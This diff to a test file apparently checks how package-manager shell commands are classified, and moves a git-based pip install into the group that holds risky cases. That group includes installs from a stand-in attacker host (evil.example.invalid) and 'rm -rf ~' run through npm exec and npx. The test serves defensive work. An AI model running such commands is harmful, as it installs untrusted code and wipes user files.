@@ -139,6 +139,7 @@ describe('packages and what they run', () => {
     npm install https://evil.example.invalid/a.tgz
     pip install --index-url https://evil.example.invalid/simple a
     pip install a@git+https://evil.example.invalid/a
+    pip install git+https://github.com/acme/a
     pip uninstall -y a
     npm exec -c 'rm -rf ~'
     npx -c 'rm -rf ~'
@@ -173,7 +174,6 @@ describe('packages and what they run', () => {
     npx vitest run
     npx --yes create-vite@latest app
     pip install -r requirements.txt
-    pip install git+https://github.com/acme/a
     pipx run black .
     uv run pytest
     uv pip install ruff
